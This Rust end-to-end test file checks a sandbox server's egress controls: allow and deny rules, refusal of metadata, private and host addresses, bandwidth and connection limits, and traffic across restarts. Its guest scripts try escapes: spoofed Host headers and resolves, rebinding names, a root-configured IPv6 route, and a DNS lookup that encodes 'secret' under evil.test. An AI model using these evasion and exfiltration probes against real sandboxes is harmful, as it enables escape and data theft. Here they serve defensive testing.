//! What leaves a sandbox: by policy, refused fast, counted; and what survives the server.
//!
//! Each test brings its own internet (`kelvin_e2e::world`): the server's only uplink leads there.

use std::time::{Duration, Instant};

use kelvin_api::network::{NetworkConfig, NetworkUpdate, NewNetwork, Word};
use kelvin_api::sandbox::{NewSandbox, Sandbox};
use kelvin_client::agent::Agent;
use kelvin_client::{Client, Error};
use kelvin_e2e::world::{FORBIDDEN, OTHER, PUBLIC, RESOLVER, V6, World};
use kelvin_e2e::{Ground, LIMIT, agent_of, new_sandbox, sh, shell, slot_links};

const ARGS: [&str; 6] = ["--uplink", "wan0", "--resolver", "203.0.113.53:53", "--waiting-vmms", "2"];

/// Connects to each `host port` given on standard input; prints what happened and after how many milliseconds.
const TRY: &str = r#"
cat > /tmp/try.py <<'EOF'
import socket, sys, time
for line in sys.stdin:
    host, port, kind = line.split()
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    started = time.monotonic()
    try:
        s = socket.socket(family, socket.SOCK_DGRAM if kind == 'udp' else socket.SOCK_STREAM)
        s.settimeout(5)
        s.connect((host, int(port)))
        if kind == 'udp':
            s.send(b'\0\7\1\0\0\1\0\0\0\0\0\0\1a\4test\0\0\1\0\1')
            s.recv(512)
        outcome = 'open'
    except OSError as error:
        outcome = type(error).__name__
    print(host, port, kind, outcome, round((time.monotonic() - started) * 1000))
EOF
"#;

async fn attempts(agent: &Agent, targets: &[(String, u16, &str)]) -> Vec<(String, f64)> {
    let lines: Vec<String> =
        targets.iter().map(|(host, port, kind)| format!("{host} {port} {kind}")).collect();
    // Once to warm up: the first run is translated code.
    let script = format!(
        "{TRY}\nprintf '127.0.0.1 1 tcp\\n' | python3 /tmp/try.py >/dev/null\npython3 /tmp/try.py <<'EOF'\n{}\nEOF",
        lines.join("\n")
    );
    sh(agent, &script)
        .await
        .lines()
        .map(|line| {
            let words: Vec<&str> = line.split(' ').collect();
            (words[3].to_owned(), words[4].parse().expect("milliseconds"))
        })
        .collect()
}

async fn create(client: &Client, network: Option<NewNetwork>) -> (Sandbox, Agent) {
    let body = NewSandbox { network, ..new_sandbox() };
    let sandbox = client.create(&body, None).await.expect("a create").sandbox;
    let agent = agent_of(client, &sandbox);
    (sandbox, agent)
}

/// What a script prints, however it ends.
async fn text(agent: &Agent, script: &str) -> String {
    let (_, stdout, _) = agent.run(&shell(script), 1 << 20).await.expect("the command runs");
    String::from_utf8(stdout).expect("text")
}

/// Waits until a command in the sandbox succeeds.
async fn wait_for(agent: &Agent, condition: &str) {
    let started = Instant::now();
    while agent.run(&shell(condition), 1 << 16).await.expect("the command runs").0 != 0 {
        assert!(started.elapsed() < LIMIT, "never: {condition}");
    }
}

fn kill_9(pid: i32) {
    let pid = rustix::process::Pid::from_raw(pid).expect("a pid");
    rustix::process::kill_process(pid, rustix::process::Signal::KILL).expect("it can be killed");
}

fn rules(allow: &[&str], deny: &[&str]) -> Option<NewNetwork> {
    let own = |list: &[&str]| Some(list.iter().map(|&text| text.to_owned()).collect());
    let config = NetworkConfig { allow_out: own(allow), deny_out: own(deny), ..NetworkConfig::default() };
    Some(NewNetwork::Config(Box::new(config)))
}

fn update(allow: &[&str], deny: &[&str]) -> NetworkUpdate {
    let own = |list: &[&str]| Some(list.iter().map(|&text| text.to_owned()).collect());
    NetworkUpdate { allow_out: own(allow), deny_out: own(deny), ..NetworkUpdate::default() }
}

#[tokio::test]
async fn by_default_the_internet_is_open_and_everything_else_is_refused_at_once() {
    let Some(ground) = Ground::with_networks().await else { return };
    let world = World::make();
    // On every address of the host, so that only a rule keeps a guest away.
    let args: Vec<&str> = ARGS.into_iter().chain(["--listen", "0.0.0.0:0"]).collect();
    let server = ground.baked("egress", &args, 2).await;
    let client = server.client();
    let api: u16 = server.url().rsplit(':').next().expect("a port").parse().expect("a port");
    let (neighbour, neighbours_agent) = create(&client, None).await;
    sh(&neighbours_agent, "cd /tmp && (setsid python3 -m http.server 8000 >/dev/null 2>&1 &)").await;
    let (sandbox, agent) = create(&client, None).await;
    assert_eq!(
        sh(&agent, "curl -sm 10 http://public.test/").await,
        format!("I am {PUBLIC}, you asked for public.test\n")
    );
    assert_eq!(
        sh(&agent, "curl -skm 10 https://other.test/").await,
        format!("I am {OTHER}, you asked for other.test\n")
    );
    world.forget();

    // The slots of both: the neighbour's address, and the host's end of its own link.
    let slots = ["10.213.0.2", "10.213.0.6", "10.213.0.10", "10.213.0.14", "10.213.0.18", "10.213.0.22"];
    let hosts = ["198.51.100.2", "10.213.0.1", "10.213.0.5", "10.213.0.9", "127.0.0.1", "169.254.0.22"];
    let mut targets: Vec<(String, u16, &str)> = Vec::new();
    targets.extend(FORBIDDEN.iter().map(|&address| (address.to_owned(), 80, "tcp")));
    targets.extend(slots.iter().map(|&address| (address.to_owned(), 8000, "tcp")));
    targets.extend(hosts.iter().map(|&address| (address.to_owned(), api, "tcp")));
    targets.extend(
        [(PUBLIC, "tcp"), (PUBLIC, "udp"), (RESOLVER, "udp")].map(|(a, kind)| (a.to_owned(), 53, kind)),
    );
    targets.push((V6.to_owned(), 80, "tcp"));
    targets.push(("2001:db8:1::2".to_owned(), api, "tcp"));
    let outcomes = attempts(&agent, &targets).await;
    let mut slowest = 0.0_f64;
    for (target, (outcome, ms)) in targets.iter().zip(&outcomes) {
        assert_ne!(outcome, "open", "{target:?} was reached");
        assert_ne!(outcome, "TimeoutError", "{target:?} looks like a hang");
        slowest = slowest.max(*ms);
    }
    println!("{} targets refused, the slowest after {slowest} ms", targets.len());
    assert!(slowest <= 100.0, "{targets:?} {outcomes:?}");
    for address in FORBIDDEN.iter().chain(&[PUBLIC, V6]) {
        assert_eq!(world.arrivals(address), 0, "{address} was reached");
    }

    // Root in the guest gives itself IPv6; nothing gets further than the tap.
    let root = client.agent(&sandbox.sandbox_id, sandbox.envd_access_token.clone(), Some("root".into()));
    sh(
        &root.expect("a URL"),
        "echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6; ip -6 addr add 2001:db8:9::2/64 dev eth0 nodad; \
         ip -6 neigh add 2001:db8:9::1 lladdr 02:4b:54:00:00:01 dev eth0; ip -6 route add default via 2001:db8:9::1; \
         timeout 1 python3 -c 'import socket; socket.create_connection((\"2001:db8:2::10\", 80))' 2>/dev/null; true",
    )
    .await;
    assert_eq!(world.arrivals(V6), 0);
    // Raw packets under another address, too.
    let state = client.network(sandbox.sandbox_id.as_str()).await.expect("a state");
    println!("refused: {:?}", state.denied);
    for reason in ["metadata", "private", "host", "sandboxes", "dns", "ipv6"] {
        assert!(
            state.denied.get(reason).is_some_and(|count| *count > 0),
            "{reason} is not counted: {state:?}"
        );
    }
    assert!(
        state.recent.iter().any(|one| one.reason == "private" && one.target == "tcp 10.0.0.1:80"),
        "{state:?}"
    );
    assert!(server.log().contains("egress refused"), "it is logged");
    assert!(state.sent.packets > 20 && state.received.packets > 20);
    let silent = client.network(neighbour.sandbox_id.as_str()).await.expect("a state");
    assert_eq!(silent.denied.get("inbound"), None, "nothing came near the neighbour: {silent:?}");
    server.stop().await;
}

#[tokio::test]
#[allow(clippy::too_many_lines, reason = "one story: each step rests on what the one before it left")]
async fn domains_hold_where_names_are_resolved_and_where_connections_are_made() {
    let Some(ground) = Ground::with_networks().await else { return };
    let world = World::make();
    // A server of the host's own, on the address that a name will lead to.
    let host = std::net::TcpListener::bind("198.51.100.2:80").expect("a free port");
    let server = ground.baked("domains", &ARGS, 2).await;
    let client = server.client();
    let (sandbox, agent) = create(
        &client,
        rules(&["public.test", "rebind.test", "self.test", "203.0.113.20/32"], &["0.0.0.0/0"]),
    )
    .await;
    let id = sandbox.sandbox_id.as_str();
    let code = "curl -sko /dev/null -m 10 -w '%{http_code} %{exitcode}\\n'";
    let connects = text(
        &agent,
        &format!(
            "curl -sm 10 http://public.test/; curl -skm 10 https://public.test/; \
             curl -skm 10 --resolve public.test:443:198.51.100.1 https://public.test/; \
             {code} http://other.test/; {code} https://other.test/; \
             {code} --resolve other.test:443:{PUBLIC} https://other.test/; \
             {code} -H 'Host: other.test' http://{PUBLIC}/; {code} https://{PUBLIC}/; {code} http://{PUBLIC}:8080/; \
             {code} --resolve rebind.test:443:{PUBLIC} https://rebind.test/; {code} --resolve self.test:80:{PUBLIC} http://self.test/; \
             {code} https://rebind.test/; {code} http://self.test/; \
             {code} http://{OTHER}:8080/; \
             python3 -c 'import socket; print(socket.getaddrinfo(\"c2VjcmV0.evil.test\", 80))' 2>&1 | tail -1; \
             getent ahostsv6 public.test | grep -c 2001; \
             curl -sm 10 --request-target http://public.test/ -H 'Host: other.test' http://public.test/"
        ),
    )
    .await;
    let lines: Vec<&str> = connects.lines().collect();
    let public = format!("I am {PUBLIC}, you asked for public.test");
    assert_eq!(lines[..3], [&public; 3], "allowed by name, wherever the guest believes it is: {lines:#?}");
    assert!(lines[3].ends_with(" 6") && lines[4].ends_with(" 6"), "not even resolved: {lines:#?}");
    assert!(lines[5].starts_with("000 35") || lines[5].starts_with("000 56"), "reset: {lines:#?}");
    assert!(lines[6].starts_with("403 "), "{lines:#?}");
    assert!(lines[7].starts_with("000 "), "no name, no connection: {lines:#?}");
    assert!(lines[8].starts_with("000 7"), "refused by address: {lines:#?}");
    assert!(lines[9].starts_with("000 "), "a name that leads inside: {lines:#?}");
    assert!(lines[10].starts_with("502 "), "a name that leads to the host: {lines:#?}");
    assert!(lines[11].starts_with("000 7") && lines[12].starts_with("000 7"), "nor by address: {lines:#?}");
    assert!(lines[13].starts_with("200 "), "allowed by address: {lines:#?}");
    assert!(lines[14].contains("gaierror"), "{lines:#?}");
    assert_eq!(
        lines.last(),
        Some(&public.as_str()),
        "the server is told the name that was checked: {lines:#?}"
    );
    assert!(host.set_nonblocking(true).is_ok() && host.accept().is_err(), "the host was reached");
    assert_eq!(world.arrivals("10.0.0.1"), 0);
    assert_eq!(world.arrivals(PUBLIC), 4, "only what was allowed");
    assert!(
        !world.names().iter().any(|name| name.contains("evil") || name.contains("other")),
        "{:?}",
        world.names()
    );
    let state = client.network(id).await.expect("a state");
    println!("refused: {:?}", state.denied);
    for reason in ["name", "dns_name", "policy", "private"] {
        assert!(state.denied.contains_key(reason), "{reason} is not counted: {state:?}");
    }
    assert_eq!(state.allow_out, ["203.0.113.20/32", "public.test", "rebind.test", "self.test"]);

    // At runtime: opened, then closed; what is no longer allowed is cut.
    client.set_network(id, &update(&[], &[])).await.expect("open");
    assert_eq!(
        sh(&agent, "curl -sm 10 http://other.test/").await,
        format!("I am {OTHER}, you asked for other.test\n")
    );
    sh(&agent, "(setsid curl -sN http://public.test/stream > /tmp/stream 2>&1; echo $? > /tmp/ended) >/dev/null 2>&1 &").await;
    wait_for(&agent, "test -s /tmp/stream").await;
    client.set_network(id, &update(&[], &["0.0.0.0/0"])).await.expect("closed");
    wait_for(&agent, "test -s /tmp/ended").await;
    let refused = text(&agent, &format!("{code} http://{PUBLIC}/; {code} http://public.test/")).await;
    assert_eq!(refused.lines().map(|line| &line[..3]).collect::<Vec<_>>(), ["000", "000"]);
    // The same for a connection that was made by name.
    client.set_network(id, &update(&["public.test"], &["0.0.0.0/0"])).await.expect("by name");
    sh(&agent, "rm -f /tmp/stream /tmp/ended; (setsid curl -sN http://public.test/stream > /tmp/stream 2>&1; echo $? > /tmp/ended) >/dev/null 2>&1 &").await;
    wait_for(&agent, "test -s /tmp/stream").await;
    client.set_network(id, &update(&["other.test"], &["0.0.0.0/0"])).await.expect("another name");
    wait_for(&agent, "test -s /tmp/ended").await;

    // The egress process dies: names fail until it is back, by itself.
    let helpers = server.helpers();
    assert_eq!(helpers.len(), 1);
    kill_9(*helpers.first().expect("one"));
    wait_for(&agent, "curl -sfm 5 http://other.test/").await;
    assert_ne!(server.helpers(), helpers);

    // What cannot be honoured is refused by name, and the rules stay.
    for (bad, code) in [
        (update(&["10.0.0.0/8"], &[]), "invalid_network"),
        (update(&["a.test"], &[]), "invalid_network"),
        (update(&[], &["a.test"]), "invalid_network"),
        (
            NetworkUpdate { rules: Some(serde_json::json!({"a.test": []})), ..NetworkUpdate::default() },
            "unsupported_field",
        ),
    ] {
        match client.set_network(id, &bad).await {
            Err(Error::Refused(refused)) => {
                assert_eq!((refused.code, refused.error_code.as_deref()), (400, Some(code)), "{bad:?}");
                assert!(refused.remediation.is_some());
            }
            other => panic!("{bad:?}: {other:?}"),
        }
    }
    assert_eq!(client.network(id).await.expect("a state").allow_out, ["other.test"]);
    server.stop().await;
}

#[tokio::test]
async fn limits_of_a_sandbox_hold() {
    let Some(ground) = Ground::with_networks().await else { return };
    let _world = World::make();
    let server = ground.baked("limits", &ARGS, 1).await;
    let client = server.client();
    let config =
        NetworkConfig { max_connections: Some(5), bandwidth_mbit: Some(2), ..NetworkConfig::default() };
    let (sandbox, agent) = create(&client, Some(NewNetwork::Config(Box::new(config)))).await;
    let text = sh(
        &agent,
        &format!(
            "python3 -c '
import socket
held = []
for i in range(8):
    s = socket.socket(); s.settimeout(5)
    try: s.connect((\"{PUBLIC}\", 80)); held.append(s)
    except OSError as e: print(type(e).__name__)
print(len(held))'"
        ),
    )
    .await;
    assert_eq!(text, "ConnectionRefusedError\nConnectionRefusedError\nConnectionRefusedError\n5\n");
    // 1.5 MB at 2 Mbit/s are more than 4 s, with a second's worth at once. A guest of an emulated host was
    // seen to send no more than 9 Mbit/s: a limit of 8 is none to it.
    sh(
        &agent,
        "(setsid python3 -c '
import socket
l = socket.create_server((\"\", 9009)); open(\"/tmp/up\", \"w\").close()
c, _ = l.accept(); c.sendall(bytes(1_500_000)); c.close()' >/dev/null 2>&1 &)",
    )
    .await;
    wait_for(&agent, "test -e /tmp/up").await;
    let detail = client.sandbox(sandbox.sandbox_id.as_str()).await.expect("it runs");
    let mut stream = client.stream(&detail, 9009).await.expect("a stream");
    let started = Instant::now();
    let bytes = tokio::io::copy(&mut stream, &mut tokio::io::sink()).await.expect("bytes");
    let took = started.elapsed();
    println!("1.5 MB at 2 Mbit/s took {took:?}");
    assert_eq!(bytes, 1_500_000);
    assert!(took > Duration::from_secs(4), "{took:?}");
    let denied = client.network(sandbox.sandbox_id.as_str()).await.expect("a state").denied;
    assert_eq!(denied.get("connections"), Some(&3), "{denied:?}");
    assert!(denied.contains_key("bandwidth"), "{denied:?}");
    server.stop().await;
}

#[tokio::test]
async fn traffic_outlives_the_server_and_its_slots_are_adopted() {
    let Some(ground) = Ground::with_networks().await else { return };
    let world = World::make();
    let mut server = ground.baked("adopt-network", &ARGS, 2).await;
    let client = server.client();
    let (open, open_agent) = create(&client, None).await;
    let (named, named_agent) = create(&client, rules(&["public.test"], &["0.0.0.0/0"])).await;
    let forever = |url: &str| {
        format!("(setsid bash -c 'while true; do curl -sfm 5 {url} >/dev/null; done' >/dev/null 2>&1 &)")
    };
    sh(&open_agent, &forever("http://other.test/")).await;
    sh(&named_agent, &forever("https://public.test/ -k")).await;
    sh(&open_agent, "cd /tmp && (setsid python3 -m http.server 8000 >/dev/null 2>&1 &)").await;
    let links = |links: Vec<String>| links.into_iter().map(|link| link[..10].to_owned()).collect::<Vec<_>>();
    let before = server.vmms();
    for round in 0..2 {
        if round == 0 {
            server.kill_9()
        } else {
            server.terminate().await
        }
        // Nobody is there but the guests, their slots, and the process that answers them by name.
        for (address, what) in [(OTHER, "open"), (PUBLIC, "by name")] {
            world.forget();
            let started = Instant::now();
            while world.arrivals(address) < 3 {
                assert!(started.elapsed() < LIMIT, "round {round}: traffic {what} does not flow");
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
        server.start(&ARGS).await;
        let node = server.node_when("settled", |node| node.settled && node.sandboxes == 2).await;
        assert_eq!(node.network.expect("networks").slots_quarantined, 0);
        let client = server.client();
        // Rules and ways in are as before.
        for sandbox in [&open, &named] {
            let agent =
                client.agent(&sandbox.sandbox_id, sandbox.envd_access_token.clone(), None).expect("a URL");
            assert_eq!(sh(&agent, "echo ok").await, "ok\n", "round {round}");
        }
        let named_again =
            client.agent(&named.sandbox_id, named.envd_access_token.clone(), None).expect("a URL");
        assert_eq!(text(&named_again, "curl -sfm 5 http://other.test/ || echo closed").await, "closed\n");
        let detail = client.sandbox(open.sandbox_id.as_str()).await.expect("it runs");
        client.stream(&detail, 8000).await.expect("a port");
        client
            .set_network(named.sandbox_id.as_str(), &update(&["public.test"], &["0.0.0.0/0"]))
            .await
            .expect("rules");
        assert!(
            before.difference(&server.vmms()).count() <= 2,
            "machines go on, only those that waited are new"
        );
    }
    assert!(links(slot_links()).len() >= 2);
    server.stop().await;
}

#[tokio::test]
async fn without_a_network_sandboxes_work_and_networks_are_refused() {
    let Some(ground) = Ground::with_networks().await else { return };
    let world = World::make();
    let mut server = ground.server("none", &ARGS).await;
    let client = server.client();
    // On a node that has networks, by wish.
    let (lonely, agent) = create(&client, Some(NewNetwork::Word(Word::None))).await;
    assert_eq!(sh(&agent, "ls /sys/class/net").await, "lo\n");
    assert_eq!(text(&agent, &format!("curl -sm 5 http://{PUBLIC}/; echo $?")).await, "7\n");
    assert!(!client.network(lonely.sandbox_id.as_str()).await.expect("a state").attached);
    let detail = client.sandbox(lonely.sandbox_id.as_str()).await.expect("it runs");
    let Err(Error::Refused(refused)) = client.stream(&detail, 80).await else {
        panic!("there is no network")
    };
    assert_eq!(refused.code, 502);
    client.kill(&lonely.sandbox_id).await.expect("a kill");
    server.settle().await;
    server.terminate().await;
    // On a node that has none.
    server.start(&["--no-network", "--waiting-vmms", "0"]).await;
    let client = server.client();
    let node = server.settle().await;
    assert!(node.network.is_none() && node.no_network.is_some());
    let (_, agent) = create(&client, None).await;
    assert_eq!(sh(&agent, "ls /sys/class/net; echo ok").await, "lo\nok\n");
    for network in [rules(&["1.1.1.1"], &[]), rules(&[], &["1.1.1.1"])] {
        let body = NewSandbox { network, ..new_sandbox() };
        let Err(Error::Refused(refused)) = client.create(&body, None).await else {
            panic!("it was to be refused")
        };
        assert_eq!((refused.code, refused.error_code.as_deref()), (409, Some("no_network")));
    }
    assert_eq!(world.arrivals(PUBLIC), 0);
    server.stop().await;
}

/// A host that cannot have networks, because nobody is root here; nothing else of it is less.
#[tokio::test]
async fn a_server_without_rights_runs_sandboxes_without_networks() {
    let Some(ground) = Ground::with_networks().await else { return };
    let nobody = Some(65_534);
    let server = ground.server_as(nobody, "nobody", &["--waiting-vmms", "2"]).await;
    let doctor = server.cli(&["doctor"]).output().expect("kelvin runs");
    let words = String::from_utf8_lossy(&doctor.stdout).into_owned();
    assert!(words.contains("no network for sandboxes: it needs root"), "{words}");
    server.bake(2).await;
    let client = server.client();
    let node = server.settle().await;
    assert!(node.no_network.is_some_and(|reason| reason.contains("root")) && node.network.is_none());
    let mut body = new_sandbox();
    body.start_path = Some(kelvin_api::sandbox::StartPath::Clone);
    let sandbox = client.create(&body, None).await.expect("a create").sandbox;
    assert_eq!(sh(&agent_of(&client, &sandbox), "ls /sys/class/net; id -un").await, "lo\nuser\n");
    body.network = rules(&["1.1.1.1"], &[]);
    let Err(Error::Refused(refused)) = client.create(&body, None).await else {
        panic!("it was to be refused")
    };
    assert_eq!(refused.error_code.as_deref(), Some("no_network"));
    server.stop().await;
}

#[tokio::test]
async fn a_slot_that_is_used_again_knows_nothing_of_its_last_machine() {
    let Some(ground) = Ground::with_networks().await else { return };
    let world = World::make();
    let args: Vec<&str> = ARGS[..4].iter().copied().chain(["--waiting-vmms", "0", "--slots", "1"]).collect();
    let server = ground.baked("reuse", &args, 0).await;
    let client = server.client();
    let mut numbers = std::collections::BTreeMap::<String, u32>::new();
    let mut slowest = Duration::ZERO;
    for round in 0..100 {
        let (sandbox, agent) = create(&client, None).await;
        // The first packet ever into this machine, and its answer: nobody listens there.
        let detail = client.sandbox(sandbox.sandbox_id.as_str()).await.expect("it runs");
        let started = Instant::now();
        let Err(Error::Refused(refused)) = client.stream(&detail, 4444).await else {
            panic!("nobody listens")
        };
        slowest = slowest.max(started.elapsed());
        assert_eq!(
            (refused.code, refused.message.as_str()),
            (502, "The sandbox is running but port is not open")
        );
        *numbers.entry(slot_links().first().expect("a slot").clone()).or_default() += 1;
        if round % 10 == 9 {
            // What came in so far: one SYN, and what it took to say so. Then a stream begins that does not end
            // with the machine.
            let heard = sh(&agent, "cat /sys/class/net/eth0/statistics/rx_packets").await;
            assert_eq!(heard, "1\n", "round {round}: a packet of the former machine arrived");
            sh(
                &agent,
                &format!("python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"more\", (\"{PUBLIC}\", 9000)); s.recv(99); s.recv(99)'"),
            )
            .await;
        } else if round % 10 == 0 && round > 0 {
            // Its packets are still on the way here.
            tokio::time::sleep(Duration::from_millis(300)).await;
            let heard = sh(&agent, "cat /sys/class/net/eth0/statistics/rx_packets").await;
            assert_eq!(heard, "1\n", "round {round}: a packet of the former machine arrived");
        }
        client.kill(&sandbox.sandbox_id).await.expect("a kill");
        server.settle().await;
    }
    println!("100 machines on {} slots, the slowest first packet took {slowest:?}", numbers.len());
    assert!(numbers.len() <= 3, "the lowest free slot is used: {numbers:?}");
    assert!(slowest < Duration::from_millis(500), "{slowest:?}: ARP would take a second");
    assert!(world.arrivals(PUBLIC) >= 10);
    server.stop().await;
}

#[tokio::test]
async fn a_thousand_slots_leave_nothing() {
    let Some(ground) = Ground::with_networks().await else { return };
    let server = ground.server("slots", &["--waiting-vmms", "0", "--slots", "0"]).await;
    let output =
        server.cli(&["--output", "json", "bench", "slots", "--count", "1000"]).output().expect("kelvin runs");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
    println!("{report}");
    assert!(report["claim_ms"]["p50"].as_f64().expect("a figure") < 1.0);
    assert_eq!(report["slots"], 1000);
    for left in ["links_left", "connections_left", "rules_left", "ledger_left"] {
        assert_eq!(report[left], 0, "{left}");
    }
    server.stop().await;
}
